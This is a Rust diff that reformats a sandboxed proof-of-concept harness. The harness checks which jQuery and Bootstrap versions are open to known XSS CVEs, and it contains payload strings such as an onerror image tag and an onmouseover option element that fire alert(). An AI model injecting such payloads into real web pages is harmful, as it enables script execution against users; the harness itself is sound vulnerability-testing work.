@@ -163,8 +163,7 @@ poc!(
     "reflected XSS creating <option> elements at runtime (seclists PoC)",
     |version| {
         let mut sandbox = Sandbox::new();
-        let payload =
-            r#"<option value="x" onmouseover="alert('CVE-2014-6071')">opt</option>"#;
+        let payload = r#"<option value="x" onmouseover="alert('CVE-2014-6071')">opt</option>"#;
         JQuery::at(version).create_option_element(&mut sandbox, payload);
         verdict(sandbox.exploited())
     }
@@ -212,8 +211,7 @@ poc!(
     "tooltip/popover template XSS (sanitizer added in 3.4.1/4.3.1)",
     |version| {
         let mut sandbox = Sandbox::new();
-        let template =
-            "<div class=\"tooltip\"><img src=x onerror=alert('CVE-2019-8331')></div>";
+        let template = "<div class=\"tooltip\"><img src=x onerror=alert('CVE-2019-8331')></div>";
         Bootstrap::at(version).render_tooltip_template(&mut sandbox, template);
         verdict(sandbox.exploited())
     }
@@ -576,14 +574,21 @@ mod tests {
             "CVE-2019-11358",
             "CVE-2020-7656",
         ] {
-            assert_eq!(get(id).attempt(&ver("1.12.4")), PocResult::Exploited, "{id}");
+            assert_eq!(
+                get(id).attempt(&ver("1.12.4")),
+                PocResult::Exploited,
+                "{id}"
+            );
         }
         // 3.5.1: only the understated load() bug remains.
         assert_eq!(
             get("CVE-2020-7656").attempt(&ver("3.5.1")),
             PocResult::Exploited
         );
-        assert_eq!(get("CVE-2020-11022").attempt(&ver("3.5.1")), PocResult::Safe);
+        assert_eq!(
+            get("CVE-2020-11022").attempt(&ver("3.5.1")),
+            PocResult::Safe
+        );
         // 3.6.0 is clean.
         assert_eq!(get("CVE-2020-7656").attempt(&ver("3.6.0")), PocResult::Safe);
         // Prototype is always exploitable; 7993 is unavailable.
